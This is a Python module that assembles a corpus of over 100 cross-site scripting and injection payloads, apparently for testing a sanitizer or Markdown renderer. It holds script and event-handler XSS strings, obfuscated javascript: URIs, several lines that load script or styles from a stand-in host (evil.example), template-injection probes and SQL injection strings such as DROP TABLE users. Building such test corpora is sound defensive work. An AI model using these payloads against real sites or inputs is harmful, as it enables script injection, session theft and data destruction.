"""Our own corpus of XSS and injection payloads (over 100), built from hand-written cases and combinations."""
from __future__ import annotations

import itertools

HANDWRITTEN = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a href=vbscript:msgbox(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<style>@import 'http://evil.example';</style>",
    "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=http://evil.example/>", "<!--<script>alert(1)//-->", "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}", "{% raw %}{{ config }}{% endraw %}", "${7*7}", "<%= 7*7 %>", "' OR '1'='1", "\"; DROP TABLE users; --",
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x]( javascript:alert(1) )", "[x](data:text/html,<script>)",
    "<javascript:alert(1)>", "![x](javascript:alert(1))", "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](<javascript:alert(1)>)", "`<script>alert(1)</script>`", "```\n<script>alert(1)</script>\n```",
    "<https://evil.example/\"onmouseover=\"alert(1)>", "\u202egnp.exe", "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\" autofocus onfocus=\"alert(1)", "' onmouseover='alert(1)", "javascript:alert(1)//", "<x onclick=alert(1)>x</x>",
]
TAGS = ["img src=x", "svg", "body", "video src=x", "details open", "a href=#"]
HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "ontoggle"]
SCHEMES = ["javascript:", "JaVaScRiPt:", "data:text/html,", "vbscript:", "java\tscript:", "&#x6A;avascript:"]

COMBINED = [f"<{tag} {handler}=alert(1)>" for tag, handler in itertools.product(TAGS, HANDLERS)]
COMBINED += [f"<a href=\"{scheme}alert(1)\">x</a>" for scheme in SCHEMES]
COMBINED += [f"[link]({scheme}alert(1))" for scheme in SCHEMES]

PAYLOADS = list(dict.fromkeys(HANDWRITTEN + COMBINED))
assert len(PAYLOADS) >= 100, len(PAYLOADS)
